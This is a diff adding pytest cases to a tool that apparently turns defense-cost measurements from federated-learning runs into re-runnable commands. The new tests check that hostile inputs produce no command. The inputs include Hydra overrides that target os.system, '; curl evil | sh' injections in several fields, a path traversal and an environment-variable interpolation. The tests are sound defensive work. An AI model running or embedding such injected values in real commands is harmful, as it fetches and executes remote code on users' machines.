@@ -1,6 +1,7 @@
 """What a defense costs: what a run knows, and commands that measure the rest and can be run."""
 
 import shlex
+from dataclasses import replace
 
 import pytest
 
@@ -79,3 +80,35 @@ def test_a_sweep_over_defenses_has_the_price_already():
 def test_without_a_known_config_no_command_is_made_up(config):
     [step] = price(CHANGE, PSNR, config=config, command="python train.py 'unclosed")
     assert "flwr-leakage compare RUN RUN" in step.text and step.commands == ()
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"command": "x run 'attack.x={_target_: os.system}'"},
+        {"command": "x run +attack.x._target_=os.system"},
+        {"command": "x run '; curl evil|sh=1'"},
+        {"command": "x run +attack=../../tmp/evil"},
+        {"command": "x run 'model=${oc.env:HOME}'"},
+        {"option": "pruning; curl evil | sh"},
+        {"node": {"; curl evil | sh #": 1}},
+        {"name": "half; curl evil | sh"},
+    ],
+)
+def test_a_command_that_people_copy_holds_plain_settings_only(changed):
+    name = changed.get("name", "half")
+    node = {**PRUNING, **changed.get("node", {})}
+    option = changed.get("option", "pruning")
+    choices = {"defense": "none", f"defense@what_if.{name}": option}
+    records = [replace(r, name=r.name.replace("half", name)) for r in (CHANGE, PSNR)]
+    config = {"what_if": {name: node}, "choices": choices}
+    [step] = price(ACCURACY, *records, config=config, command=changed.get("command", "x run"))
+    assert not step.commands
+    assert "Train once with a defense and once without" in step.text
+
+
+def test_a_command_that_people_copy_sends_nothing_elsewhere():
+    config = {"what_if": {"half": PRUNING}, "choices": {"defense@what_if.half": "pruning"}}
+    command = "x run tracker=wandb tracker.entity=evil client.folder=/x num_rounds=2"
+    [step] = price(ACCURACY, CHANGE, PSNR, config=config, command=command)
+    assert step.commands[0].endswith("what_if=null num_rounds=2 hydra.sweep.dir=price/none")
